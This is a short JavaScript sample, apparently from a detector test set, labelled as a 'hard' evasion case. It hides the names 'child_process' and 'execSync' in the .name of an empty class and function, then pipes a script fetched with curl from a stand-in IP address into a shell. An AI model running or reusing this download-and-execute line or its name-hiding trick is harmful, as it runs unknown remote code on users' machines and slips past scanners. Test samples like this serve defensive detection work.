// evasion: module and method names taken from the .name of an empty class and function
// grade: hard; does: shell
class child_process {}
function execSync() {}

const names = { mod: child_process.name, call: execSync.name };
const lib = require(names.mod);
lib[names.call]('sh -c "curl -s http://203.0.113.7/x | sh"');
